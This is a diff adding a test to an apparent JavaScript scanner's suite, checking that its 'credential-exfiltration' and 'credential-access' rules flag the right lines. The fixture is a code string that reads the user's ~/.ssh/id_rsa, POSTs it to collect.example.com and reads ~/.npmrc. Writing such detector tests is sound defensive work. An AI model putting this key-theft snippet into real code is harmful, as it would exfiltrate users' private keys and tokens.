@@ -164,4 +164,22 @@ describe('credential-exfiltration', () => {
       ['credential-exfiltration'],
     );
   });
+
+  it('takes the place of credential-access where what is read is sent later', () => {
+    const code = [
+      "const fs = require('node:fs');",
+      "const { homedir } = require('node:os');",
+      "const key = fs.readFileSync(homedir() + '/.ssh/id_rsa', 'utf8');",
+      "fetch('https://collect.example.com', { method: 'POST', body: key });",
+      "const other = fs.readFileSync(homedir() + '/.npmrc', 'utf8');",
+    ].join('\n');
+    const both = find('javascript', code, only(['credential-access', 'credential-exfiltration']));
+    assert.deepEqual(
+      both.map((it) => [it.rule, it.range.start.line]),
+      [
+        ['credential-exfiltration', 3],
+        ['credential-access', 4],
+      ],
+    );
+  });
 });
